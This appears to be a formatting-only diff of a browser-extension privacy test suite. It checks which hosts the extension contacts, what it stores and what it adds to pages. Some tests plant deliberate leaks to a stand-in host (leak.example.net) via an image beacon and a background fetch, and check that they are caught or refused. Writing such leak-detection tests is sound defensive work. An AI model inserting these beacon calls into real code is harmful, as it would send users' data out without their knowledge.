@@ -34,7 +34,11 @@ async function hostsAsked(name: BrowserName, extension: string | undefined): Pro
   const browser = await launch(name, { server, ...(extension && { extension }), language: 'en' });
   try {
     await browse(browser, extension !== undefined);
-    return [...new Set(browser.requests().map(({ host, path }) => (/chatgpt|gemini|example\.org/.test(host) ? host + path : host)))].sort();
+    return [
+      ...new Set(
+        browser.requests().map(({ host, path }) => (/chatgpt|gemini|example\.org/.test(host) ? host + path : host)),
+      ),
+    ].sort();
   } finally {
     await browser.close();
     await server.close();
@@ -53,7 +57,9 @@ describe.each(browserNames)('in %s', (name) => {
   });
 
   it('and the trap works: a deliberate leak from a page script is caught', async () => {
-    const leaky = copyOfBuild(name, (folder) => writeFileSync(join(folder, 'src/content/detect.iife.js'), "new Image().src = 'https://leak.example.net/secret';"));
+    const leaky = copyOfBuild(name, (folder) =>
+      writeFileSync(join(folder, 'src/content/detect.iife.js'), "new Image().src = 'https://leak.example.net/secret';"),
+    );
     const server = await start();
     const browser = await launch(name, { server, extension: leaky.folder, language: 'en' });
     try {
@@ -71,7 +77,9 @@ describe.each(browserNames)('in %s', (name) => {
     const server = await start();
     const browser = await launch(name, { server, extension: builtFor(name), language: 'en' });
     try {
-      const outcome = await browser.inBackground("try { await fetch('https://leak.example.net/background'); return 'sent'; } catch { return 'refused'; }");
+      const outcome = await browser.inBackground(
+        "try { await fetch('https://leak.example.net/background'); return 'sent'; } catch { return 'refused'; }",
+      );
       expect(outcome).toBe('refused');
       expect(browser.requests().map(({ host }) => host)).not.toContain('leak.example.net');
     } finally {
@@ -91,7 +99,9 @@ describe.each(browserNames)('in %s', (name) => {
       await settle(300);
       const stored = JSON.stringify(await browser.inBackground('return await chrome.storage.local.get(null)'));
       expect(stored).not.toMatch(/https?:|11111111|landlord|\d{2}:\d{2}/);
-      const databases = await browser.inBackground('return (await indexedDB.databases()).map((database) => database.name)');
+      const databases = await browser.inBackground(
+        'return (await indexedDB.databases()).map((database) => database.name)',
+      );
       expect(databases).toEqual(['knowledge']);
     } finally {
       await browser.close();
@@ -107,12 +117,22 @@ describe.each(browserNames)('in %s', (name) => {
       await page.waitInShadow(CHIP, (root) => root.querySelector('.go') !== null);
       expect(
         await page.evaluate(
-          (tags: string[]) => [...document.documentElement.children].map((child) => child.localName).filter((tag) => !tags.includes(tag)),
+          (tags: string[]) =>
+            [...document.documentElement.children].map((child) => child.localName).filter((tag) => !tags.includes(tag)),
           ['head', 'body', CHIP],
         ),
       ).toEqual([]);
       expect(await page.evaluate((chip: string) => document.querySelector(chip)?.shadowRoot ?? null, CHIP)).toBeNull();
-      expect(await page.evaluate(() => [document.documentElement.className, document.documentElement.id, document.body.className, document.body.id].join(''))).toBe('');
+      expect(
+        await page.evaluate(() =>
+          [
+            document.documentElement.className,
+            document.documentElement.id,
+            document.body.className,
+            document.body.id,
+          ].join(''),
+        ),
+      ).toBe('');
     } finally {
       await browser.close();
       await server.close();
